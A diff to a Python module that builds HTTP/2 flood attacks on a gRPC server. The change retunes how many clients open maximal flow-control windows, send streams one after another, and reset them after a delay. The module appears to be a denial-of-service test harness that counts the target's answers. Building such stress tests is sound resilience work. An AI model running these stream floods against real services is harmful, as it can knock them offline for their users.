@@ -149,7 +149,7 @@ def _reset(number: int) -> bytes:
 
 
 def _calls(
-    count: int, call: Callable[[int], bytes], leaves_s: float = _LONG_S, port: str = "grpc"
+    count: int, call: Callable[[int], bytes], leaves_s: float = 0, port: str = "grpc"
 ) -> Attack:
     """So many clients, each of which sends one call after the other: `call` returns the frames of
     one as stream 1, whose number it is given. After `leaves_s` a client resets the stream, and
@@ -161,15 +161,14 @@ def _calls(
             frames = peer.makefile("rb")
             peer.sendall(_BEGIN + h2.window(2**31 - 1))
             peer.sendall(h2.frame(_WINDOW_UPDATE, 0, 0, struct.pack(">I", 2**30)))
+            peer.settimeout(_LONG_S)
             for stream in range(1, 2**30, 2):
                 peer.sendall(_as_stream(call(next(numbers)), stream))
-                peer.settimeout(leaves_s)
-                try:
-                    kinds = _until_end(frames, stream)
-                except TimeoutError:
+                if leaves_s:  # reading meanwhile would take the processor from those it attacks
+                    time.sleep(leaves_s)
                     peer.sendall(_reset(stream // 2))
                     return
-                target.answers += h2.DATA in kinds
+                target.answers += h2.DATA in _until_end(frames, stream)
 
     return lambda target: _each(count, target, play)
 
